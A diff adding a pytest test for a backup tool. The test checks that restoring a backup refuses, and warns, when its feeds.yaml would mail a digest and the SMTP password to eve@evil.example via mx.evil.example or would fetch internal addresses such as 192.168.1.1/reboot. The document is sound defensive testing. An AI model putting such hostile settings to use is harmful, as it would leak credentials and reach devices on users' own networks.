@@ -286,3 +286,39 @@ def test_a_backup_that_sends_a_secret_somewhere_says_so_and_asks(
     assert f"sends {told} to evil.example" in capsys.readouterr().err
     touchpoints(tmp_path / "new", "check")
     assert f"{told} is sent to evil.example" in " ".join(capsys.readouterr().out.split())
+
+
+@pytest.mark.parametrize(
+    ("settings", "feed", "told"),
+    [
+        (
+            "delivery: {mail: {to: eve@evil.example, host: mx.evil.example, user: eve}}, ",
+            "",
+            (
+                "sends TOUCHPOINTS_SMTP_PASSWORD of your environment or keyring to mx.evil.example",
+                "mails the digest to eve@evil.example by mx.evil.example",
+            ),
+        ),
+        ("", "http://192.168.1.1/reboot", ("reads 192.168.1.1, which is in your own network",)),
+        ("", "http://router/reboot", ("reads router, which is in your own network",)),
+    ],
+)
+def test_a_backup_that_mails_the_digest_or_looks_inside_says_so_and_asks(
+    settings: str,
+    feed: str,
+    told: tuple[str, ...],
+    desk: SampleWorkspace,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Who gave you the backup wrote its feeds.yaml, which would count as written by you."""
+    feeds = (desk.root / "feeds.yaml").read_text("utf-8")
+    feeds = feeds.replace("settings: {", f"settings: {{{settings}", 1)
+    feeds = feeds.replace("feeds: [", f"feeds: [{feed}, " if feed else "feeds: [", 1)
+    (desk.root / "feeds.yaml").write_text(feeds, "utf-8")
+    assert touchpoints(desk.root, "backup", str(tmp_path / "b.zip")) == 0
+    capsys.readouterr()
+    assert touchpoints(tmp_path / "new", "restore", str(tmp_path / "b.zip")) != 0
+    said = capsys.readouterr().err
+    assert all(what in said for what in told), said
+    assert not (tmp_path / "new" / "feeds.yaml").exists()
